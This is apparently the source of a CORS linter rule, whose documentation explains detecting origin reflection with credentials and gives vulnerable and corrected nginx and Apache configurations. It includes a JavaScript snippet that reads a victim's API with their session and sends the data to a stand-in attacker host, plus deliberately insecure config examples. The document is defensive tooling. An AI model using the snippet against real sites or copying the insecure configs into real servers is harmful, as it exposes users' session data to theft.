r"""The request Origin is reflected without validation while credentials are allowed.

## What it does
Fires when the server, as configured, would copy the request's `Origin` into
`Access-Control-Allow-Origin` without checking it against an allow-list
(nginx `$http_origin`; Apache `expr=%{req:Origin}`, or a variable set by a
match-anything `SetEnvIf Origin "^(.+)$"` or by `RewriteRule ...
[E=VAR:%{HTTP:Origin}]` and echoed with `%{VAR}e`; a framework's allow-all mode that reflects: django-cors-headers
`CORS_ALLOW_ALL_ORIGINS`, flask-cors `origins="*"`, Starlette
`allow_origins=["*"]`, Express `origin: true`) and also sends
`Access-Control-Allow-Credentials: true`. The finding names a hostile origin,
such as `https://evil.example`, that gets in.

## Why is this bad?
This is the exploitable CORS hole. For the browser an exact origin match plus
`Access-Control-Allow-Credentials: true` means "share this response", so the
browser prints nothing and shows no error: the attack simply works. Any page
the victim opens can read the API with the victim's session:

```js
fetch("https://api.example.com/api/me", {credentials: "include"})
  .then((r) => r.text())
  .then((data) => navigator.sendBeacon("https://evil.example/c", data));
```

It works for every origin whose requests carry the user's cookies or HTTP
authentication: all same-site origins, and every site when the session cookie
is `SameSite=None` (which a credentialed cross-origin API needs anyway).
Reflection also admits `Origin: null` from sandboxed iframes (CORS204). It is
often introduced to "fix" CORS201.

## Example
```nginx
location /api/ {
    add_header Access-Control-Allow-Origin $http_origin always;
    add_header Access-Control-Allow-Credentials "true" always;
    add_header Vary Origin always;
    proxy_pass http://app_backend;
}
```

```apache
# matches every Origin: each site gets its own origin back
SetEnvIf Origin "^(.+)$" CORS_ORIGIN=$1
<Location /api/>
    Header always set Access-Control-Allow-Origin "%{CORS_ORIGIN}e" env=CORS_ORIGIN
    Header always set Access-Control-Allow-Credentials "true"
    Header always merge Vary Origin
    ProxyPass http://127.0.0.1:8000/api/
</Location>
```

## Use instead
```nginx
map $http_origin $cors_origin {
    default                      "";    # empty: nginx does not send the header
    "https://app.example.com"    $http_origin;
    "https://admin.example.com"  $http_origin;
}

server {
    location /api/ {
        add_header Access-Control-Allow-Origin $cors_origin always;
        add_header Access-Control-Allow-Credentials "true" always;
        add_header Vary Origin always;
        proxy_pass http://app_backend;
    }
}
```

```apache
# exact, anchored allow-list; $1 is the whole origin
SetEnvIf Origin "^(https://(app|admin)\.example\.com)$" CORS_ORIGIN=$1
<Location /api/>
    Header always set Access-Control-Allow-Origin "%{CORS_ORIGIN}e" env=CORS_ORIGIN
    Header always set Access-Control-Allow-Credentials "true" env=CORS_ORIGIN
    Header always merge Vary Origin
    ProxyPass http://127.0.0.1:8000/api/
</Location>
```

## References
- [Fetch standard: CORS check](https://fetch.spec.whatwg.org/#cors-check)
- [Fetch standard: CORS protocol and credentials](https://fetch.spec.whatwg.org/#cors-protocol-and-credentials)
- [PortSwigger Web Security Academy: CORS](https://portswigger.net/web-security/cors)
- [James Kettle: Exploiting CORS misconfigurations for Bitcoins and bounties](https://portswigger.net/research/exploiting-cors-misconfigurations-for-bitcoins-and-bounties)
- [MDN: Access-Control-Allow-Credentials](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Access-Control-Allow-Credentials)
- [nginx: `map`](https://nginx.org/en/docs/http/ngx_http_map_module.html)
"""

from __future__ import annotations

from corslint.probes import reflected


def check(ctx):
    """Any Origin is echoed back while credentials are allowed."""
    yield from reflected(ctx, credentials=True)
